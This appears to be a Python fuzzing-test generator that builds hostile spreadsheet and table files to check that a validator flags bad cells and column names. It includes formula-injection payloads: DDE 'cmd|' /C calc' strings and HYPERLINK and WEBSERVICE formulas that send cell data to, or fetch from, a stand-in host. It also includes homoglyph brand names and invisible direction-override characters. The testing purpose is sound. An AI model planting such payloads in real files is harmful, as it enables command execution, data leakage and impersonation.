"""What a cell may not hold, in each of the five forms: one to three cells of a sound table are bad."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

from proofs.fuzzing.hostile_files.hostile import COLUMNS, FORMS, ROWS, Expected, Hostile, places, table, writing
from proofs.fuzzing.hostile_files.writing import content

_PER_FORM = 6
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    '=HYPERLINK("http://example.test/?x="&A1,"see")', "＝1+1", "＠SUM(1)", " =1+1", '="00123"', "-A1", "+A1", "\tnote",
    '\n=WEBSERVICE("http://example.test")', "--A1", "-(1+1)*A2", "＋A1", "-1+1", "-1|calc", " -A1", "+1|x!A0",
)  # fmt: skip
_LOOK_ALIKES = (
    "Wоrks Ltd", "Pаypal", "ΑBC Ltd", "Cοmpany", "Гoogle", "Microsоft", "Ԁell", "ТNT express", "Νokia", "𝐖orks",
)  # fmt: skip
_BETWEEN = ("Works{}Ltd", "{}Works", "Works{}", "東昇{}工業")


def _within(chance: random.Random, letters: str) -> str:
    return chance.choice(_BETWEEN).format(chance.choice(letters))


_CONTROLS = "\1\7\b\x0b\x0c\x1b\x1f\x7f\x85\x9f\u2028\u2029"
_DIRECTIONS = "\u202a\u202d\u202e\u2066\u2067\u2069\u200e\u200f\u061c"
_NO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad\ufe0f\U000e0041\U000e0100\u3164"
_NO_CHARACTERS = "\ufdd0\ufffe\uffff\U0001fffe\U0010ffff"

# Kind, rule, and a text of that kind.
_KINDS: tuple[tuple[str, str, Callable[[random.Random], str]], ...] = (
    ("formula injection", "formula", lambda chance: chance.choice(_FORMULAS)),
    ("look-alike characters", "look-alike", lambda chance: chance.choice(_LOOK_ALIKES)),
    ("NUL characters", "nul", lambda chance: _within(chance, "\0")),
    ("control characters", "control-character", lambda chance: _within(chance, _CONTROLS)),
    ("marks of direction", "invisible-character", lambda chance: _within(chance, _DIRECTIONS)),
    ("characters of no width", "invisible-character", lambda chance: _within(chance, _NO_WIDTH)),
    ("private characters", "private-character", lambda chance: _within(chance, "\ue000\uf8ff\U000f0000\U0010fffd")),
    ("noncharacters", "private-character", lambda chance: _within(chance, _NO_CHARACTERS)),
    ("lost characters", "lost-character", lambda chance: _within(chance, "\ufffd")),
    ("cells too long", "cell-too-long", lambda chance: "長x"[chance.randrange(2)] * chance.randrange(100_001, 140_000)),
    ("halves of characters", "lone-surrogate", lambda chance: _within(chance, "\ud800\udbff\udc00\udfff")),
)
# Bytes of these forms that would say half a character are no UTF-8; those have a kind of their own.
_NOT_SAID = {"halves of characters": ("csv", "tsv", "parquet")}


def files(chance: random.Random) -> Iterator[Hostile]:
    """Answer the files of these kinds."""
    for kind, rule, text in _KINDS:
        for form in FORMS:
            if form not in _NOT_SAID.get(kind, ()):
                for number in range(_PER_FORM):
                    yield _file(chance, kind, rule, text, form, number)
    yield from _headers(chance)
    yield from _mixed(chance)


def _file(
    chance: random.Random, kind: str, rule: str, text: Callable[[random.Random], str], form: str, number: int
) -> Hostile:
    rows = table(chance)
    expected: set[Expected] = set()
    for row, column in places(chance, chance.randrange(1, 4)):
        rows[row][column] = text(chance)
        expected.add((row + 1, COLUMNS[column], rule))
    name = f"{kind.replace(' ', '-')}-{number}.{form}"
    return Hostile(kind, name, writing(content(form, COLUMNS, rows)), frozenset(expected), ROWS - len(expected))


def _headers(chance: random.Random) -> Iterator[Hostile]:
    """Answer files in which the name of a column is bad."""
    for kind, rule, text in _KINDS:
        for form in FORMS:
            if rule not in ("cell-too-long", "lone-surrogate"):
                names = list(COLUMNS)
                bad = chance.randrange(len(names))
                names[bad] = text(chance)
                while names[bad] != names[bad].strip() or names[bad][0] in "\t\r\n":
                    names[bad] = text(chance)
                data = content(form, names, table(chance))
                name = f"{kind.replace(' ', '-')}-name.{form}"
                expected = frozenset({(None, names[bad], rule)})
                yield Hostile("bad names of columns", name, writing(data), expected, unreadable=True)


def _mixed(chance: random.Random) -> Iterator[Hostile]:
    """Answer files with several kinds at once, two of them in one row: every one has to be told."""
    usable = [(rule, text) for _, rule, text in _KINDS if rule != "lone-surrogate"]
    for form in FORMS:
        for number in range(4):
            rows = table(chance)
            expected: set[Expected] = set()
            bad = chance.sample(range(ROWS), 5)
            for row, (rule, text) in zip(bad, chance.sample(usable, 5), strict=True):
                first, second = chance.sample(range(len(COLUMNS)), 2)
                rows[row][first] = text(chance)
                rows[row][second] = "=1+1"
                expected |= {(row + 1, COLUMNS[first], rule), (row + 1, COLUMNS[second], "formula")}
            data = writing(content(form, COLUMNS, rows))
            yield Hostile("several kinds at once", f"several-{number}.{form}", data, frozenset(expected), ROWS - 5)
